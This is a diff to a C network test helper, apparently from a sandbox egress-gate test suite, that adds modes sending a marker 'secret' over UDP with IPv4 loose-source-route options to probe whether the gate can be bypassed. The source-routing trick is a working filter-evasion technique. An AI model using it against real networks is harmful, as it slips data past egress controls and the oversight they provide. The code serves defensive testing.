@@ -22,11 +22,21 @@
 //            thread flips its address between DEST and FORBIDDEN (the same
 //            port: only the 4-byte address changes, with one store, so the
 //            kernel copies one or the other, never a mix)
+//   route    (netconnect route DEST [VIA]) sends routeSecret to DEST with
+//            sendto from a UDP socket that first sets its IP options
+//            (setsockopt IP_OPTIONS): a loose source route through VIA, or
+//            with no VIA an empty list (no options)
+//   retopts  (netconnect retopts DEST [VIA]) the same with sendmsg, the
+//            options in an IP_RETOPTS control message on the call
+//   The IP header of a source-routed packet names VIA, the first hop, as
+//   its destination; DEST travels in the option. route prints
+//   "options: ok" or the error; both print "sent N" or the error.
 // Exit status 0 whatever the outcome of the attack (the verdict is the
 // gate's, not the agent's).
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <netinet/in.h>
+#include <netinet/ip.h>
 #include <pthread.h>
 #include <stdatomic.h>
 #include <stdint.h>
@@ -196,6 +206,62 @@ static void flip(const char *allowed, const char *forbidden) {
 	}
 }
 
+// routeSecret is what the route modes send: the spec looks for it in
+// packets addressed to VIA.
+static const char routeSecret[] = "sysgate-route-secret";
+
+// lsrr writes a loose source route through via into opt (IPOPT_LSRR, its
+// length, the pointer 4, the first hop; then IPOPT_END to pad to a
+// multiple of 4) and returns its length, or 0 for no via.
+static socklen_t lsrr(const char *via, unsigned char opt[8]) {
+	if (!via)
+		return 0;
+	opt[0] = IPOPT_LSRR;
+	opt[1] = 7;
+	opt[2] = 4;
+	must(inet_pton(AF_INET, via, opt + 3) == 1, "via address");
+	opt[7] = IPOPT_END;
+	return 8;
+}
+
+static void route(const char *dest, const char *via, int cmsg) {
+	union dest d;
+	socklen_t len = parse(dest, &d);
+	must(d.sa.sa_family == AF_INET, "route: an IPv4 destination");
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	must(fd >= 0, "socket");
+	unsigned char opt[8];
+	socklen_t optlen = lsrr(via, opt);
+	ssize_t n;
+	if (!cmsg) {
+		if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opt, optlen) == 0)
+			printf("options: ok\n");
+		else
+			perror("options");
+		n = sendto(fd, routeSecret, sizeof routeSecret - 1, 0, &d.sa, len);
+	} else {
+		union {
+			char buf[CMSG_SPACE(sizeof opt)];
+			struct cmsghdr align;
+		} control;
+		memset(&control, 0, sizeof control);
+		struct iovec iov = {.iov_base = (void *)routeSecret, .iov_len = sizeof routeSecret - 1};
+		struct msghdr msg = {.msg_name = &d, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1,
+		                     .msg_control = control.buf, .msg_controllen = CMSG_SPACE(optlen)};
+		struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+		c->cmsg_level = IPPROTO_IP;
+		c->cmsg_type = IP_RETOPTS;
+		c->cmsg_len = CMSG_LEN(optlen);
+		memcpy(CMSG_DATA(c), opt, optlen);
+		n = sendmsg(fd, &msg, 0);
+	}
+	if (n < 0)
+		perror("send");
+	else
+		printf("sent %zd\n", n);
+	close(fd);
+}
+
 int main(int argc, char **argv) {
 	if (argc < 3) {
 		fprintf(stderr, "usage: netconnect MODE DEST [FORBIDDEN]\n");
@@ -213,6 +279,8 @@ int main(int argc, char **argv) {
 		mmsg(argv + 2, argc - 2);
 	} else if (!strcmp(mode, "from") && argc == 4) {
 		streamFrom(dest, argv[3]);
+	} else if ((!strcmp(mode, "route") || !strcmp(mode, "retopts")) && argc <= 4) {
+		route(dest, argc == 4 ? argv[3] : NULL, !strcmp(mode, "retopts"));
 	} else if (!strcmp(mode, "flip") && argc == 4) {
 		flip(dest, argv[3]);
 	} else {
